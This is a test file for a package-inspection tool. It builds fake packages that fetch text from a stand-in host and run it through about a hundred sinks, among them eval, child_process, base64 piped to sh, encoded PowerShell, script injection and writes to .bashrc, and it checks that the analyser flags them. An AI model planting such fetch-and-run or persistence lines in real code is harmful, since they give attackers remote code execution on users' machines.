/**
 * Whatever the language, Node, pages and well-known packages offer to run a text, a file or a command, runs what a server
 * answered as well. `N` stands for the answer; nothing of it is ever executed.
 */
import t from 'tap'
import type { Inspection } from '../../../../lib/types.ts'
import { inspectExample } from '../../../helpers/inspect-example.ts'

const manifest = '{"name":"abcdefgh-util","version":"1.0.0","main":"i.js"}'
const ways: ReadonlySet<string> = new Set([
  'command',
  'command-stdin',
  'evaluate',
  'load',
  'native-load',
  'write',
])

const inspect = (line: string): Inspection =>
  inspectExample({
    files: {
      'package.json': manifest,
      'i.js': `;(async () => {\nconst N = await (await fetch('https://h.invalid/')).text();\n;${line}\n})()\n`,
    },
  })

const runs = ({ flows }: Inspection): boolean =>
  flows.some(({ source, sink }) => source.kind === 'network' && ways.has(sink.kind))

const lines: readonly string[] = [
  'eval(N)',
  '(0, eval)(N)',
  'globalThis.eval(N)',
  'new Function(N)()',
  'Function(N)()',
  `Function('a', 'b', N)(1, 2)`,
  'Function.apply(null, [N])()',
  'Reflect.construct(Function, [N])()',
  'new (Object.getPrototypeOf(async () => {}).constructor)(N)()',
  '[].constructor.constructor(N)()',
  '(() => {}).constructor(N)()',
  'setTimeout(N, 1)',
  `require('vm').runInThisContext(N)`,
  `require('vm').runInNewContext(N, { require })`,
  `new (require('vm').Script)(N).runInThisContext()`,
  `require('vm').compileFunction(N, ['require'])(require)`,
  `new (require('vm').SourceTextModule)(N)`,
  `const m = new module.constructor(); m._compile(N, 'x.js')`,
  `const M = require('module'); const m = new M('x'); m._compile(N, 'x.js')`,
  `require('module')._extensions['.js'](module, (require('fs').writeFileSync('/tmp/x.js', N), '/tmp/x.js'))`,
  `require('fs').writeFileSync('/tmp/x.js', N); require('/tmp/x.js')`,
  `const p = require('path').join(require('os').tmpdir(), 'x.cjs'); require('fs').writeFileSync(p, N); require(p)`,
  `const p = require('path').join(require('os').tmpdir(), 'x.mjs'); require('fs').writeFileSync(p, N); import(p)`,
  `const p = require('path').join(__dirname, 'x.js'); require('fs').writeFileSync(p, N); require('child_process').fork(p)`,
  `const p = require('os').tmpdir() + '/x'; require('fs').writeFileSync(p, N, { mode: 0o755 }); require('child_process').spawn(p, { detached: true })`,
  `const p = '/tmp/x'; require('fs').writeFileSync(p, N); require('child_process').exec('node ' + p)`,
  `const p = '/tmp/x'; require('fs').writeFileSync(p, N); require('child_process').execFile(process.execPath, [p])`,
  `const p = '/tmp/x.sh'; require('fs').writeFileSync(p, N); require('child_process').execSync('sh ' + p)`,
  `const p = '/tmp/x.sh'; require('fs').writeFileSync(p, N); require('fs').chmodSync(p, 493); require('child_process').execFile(p)`,
  `import('data:text/javascript,' + encodeURIComponent(N))`,
  `import('data:text/javascript;base64,' + Buffer.from(N).toString('base64'))`,
  `import(URL.createObjectURL(new Blob([N], { type: 'text/javascript' })))`,
  'new Worker(URL.createObjectURL(new Blob([N])))',
  `new (require('worker_threads').Worker)(N, { eval: true })`,
  `new (require('worker_threads').Worker)(new URL('data:text/javascript,' + N))`,
  `require('child_process').exec(N)`,
  `require('child_process').execSync(N)`,
  `require('child_process').spawn('sh', ['-c', N])`,
  `require('child_process').spawn(N, { shell: true })`,
  `require('child_process').execFile('node', ['-e', N])`,
  `require('child_process').spawn(process.execPath, ['-e', N], { detached: true, stdio: 'ignore' })`,
  `const c = require('child_process').spawn('node', ['-']); c.stdin.end(N)`,
  `const c = require('child_process').spawn('sh'); c.stdin.write(N)`,
  `require('child_process').execSync('node', { input: N })`,
  `require('child_process').execSync('sh -s', { input: N })`,
  `require('child_process').exec('node -e "' + N + '"')`,
  `require('child_process').exec('echo ' + Buffer.from(N).toString('base64') + ' | base64 -d | sh')`,
  `require('child_process').spawn('python3', ['-c', N])`,
  `require('child_process').spawn('powershell', ['-EncodedCommand', Buffer.from(N, 'utf16le').toString('base64')])`,
  `require('child_process').exec('powershell -c "' + N + '"')`,
  `new Function('require', N)(require)`,
  `const f = new Function('require', 'module', N); f(require, module)`,
  `const AF = (async () => {}).constructor; await new AF('require', N)(require)`,
  'const GF = Object.getPrototypeOf(function* () {}).constructor; GF(N)().next()',
  `eval(Buffer.from(N, 'base64').toString())`,
  'eval(atob(N))',
  `eval(N.split('').reverse().join(''))`,
  'eval(JSON.parse(N).code)',
  'const { code } = JSON.parse(N); new Function(code)()',
  'const o = JSON.parse(N); if (o.run) eval(o.run)',
  `const o = JSON.parse(N); o.cmds.forEach(c => require('child_process').exec(c))`,
  `const o = JSON.parse(N); require('child_process').spawn(o.cmd, o.args)`,
  `const o = JSON.parse(N); require('child_process')[o.m](o.a)`,
  'const o = JSON.parse(N); globalThis[o.f](o.a)',
  'const o = JSON.parse(N); require(o.m)[o.f](o.a)',
  `const d = require('crypto').createDecipheriv('aes-256-cbc', 'k'.repeat(32), 'i'.repeat(16)); eval(d.update(N, 'hex', 'utf8') + d.final('utf8'))`,
  `eval(require('zlib').gunzipSync(Buffer.from(N)).toString())`,
  `require('zlib').gunzip(Buffer.from(N), (e, b) => eval(b.toString()))`,
  `const w = await WebAssembly.instantiate(Buffer.from(N), { e: { run: require('child_process').execSync } })`,
  `const s = document.createElement('script'); s.textContent = N; document.head.append(s)`,
  `const s = document.createElement('script'); s.text = N; document.body.appendChild(s)`,
  `const s = document.createElement('script'); s.append(N); document.body.append(s)`,
  `const s = document.createElement('script'); s.appendChild(document.createTextNode(N)); document.body.append(s)`,
  `document.write('<script>' + N + '</script>')`,
  `location.href = 'javascript:' + N`,
  'window.setTimeout(N)',
  'setInterval(N, 9)',
  `const a = document.createElement('a'); a.setAttribute('onclick', N); a.click()`,
  `process.dlopen(module, (require('fs').writeFileSync('/tmp/a.node', N), '/tmp/a.node'))`,
  `require('fs').writeFileSync('/tmp/a.node', N); require('/tmp/a.node')`,
  `require('module').register('data:text/javascript,' + encodeURIComponent(N))`,
  `require('module').prototype._compile.call(module, N, 'a.js')`,
  `require('inspector').url; const s = new (require('inspector').Session)(); s.connect(); s.post('Runtime.evaluate', { expression: N })`,
  `require('fs').writeFileSync(require('path').join(require('os').homedir(), '.bashrc'), N)`,
  `require('fs').appendFileSync(require('os').homedir() + '/.zshrc', N)`,
  `require('fs').writeFileSync(require.resolve('express'), N)`,
  `require('fs').writeFileSync('node_modules/x/index.js', N)`,
  `require('child_process').execSync('npm install ' + N)`,
  `require('child_process').execSync('npm i --no-save ' + JSON.parse(N).pkg)`,
  `require('require-from-string')(N)`,
  `require('node-eval')(N)`,
  `require('vm2'); new (require('vm2').VM)().run(N)`,
  `require('esbuild').transformSync(N); eval(require('esbuild').transformSync(N).code)`,
  `const { code } = require('@babel/core').transformSync(N); eval(code)`,
  `require('jiti')(__filename).evalModule(N)`,
  `require('execa')(N, { shell: true })`,
  `require('execa').commandSync(N)`,
  `require('shelljs').exec(N)`,
  `const { $ } = require('zx'); await $([N])`,
  `require('cross-spawn').sync(N)`,
  `require('lodash').template(N)()`,
  `require('ejs').render(N)`,
  `require('pug').compile(N)()`,
  `require('safe-eval')(N)`,
  `require('serialize-javascript'); eval('(' + N + ')')`,
  `require('node-serialize').unserialize(N)`,
]

t.test('what a server answered is seen to be run by it', t => {
  for (const line of lines) t.ok(runs(inspect(line)), line)
  t.end()
})

t.test('what is only shown, kept or asked about is not run', t => {
  for (const line of [
    'console.log(N)',
    'document.body.textContent = N',
    'const o = JSON.parse(N); const t = { a: 1 }; console.log(t[o.k])',
    'const o = JSON.parse(N); const t = { a: () => 1 }; t[o.k]?.()',
    'const o = JSON.parse(N); console[o.level](o.text)',
    'new (class A {}).constructor()',
    '[].constructor.from(N)',
    '({}).constructor.assign({}, N)',
    "document.body.insertAdjacentHTML('beforeend', '<p>' + N + '</p>')",
    'setTimeout(() => console.log(N), 1)',
  ])
    t.notOk(runs(inspect(line)), line)
  t.end()
})
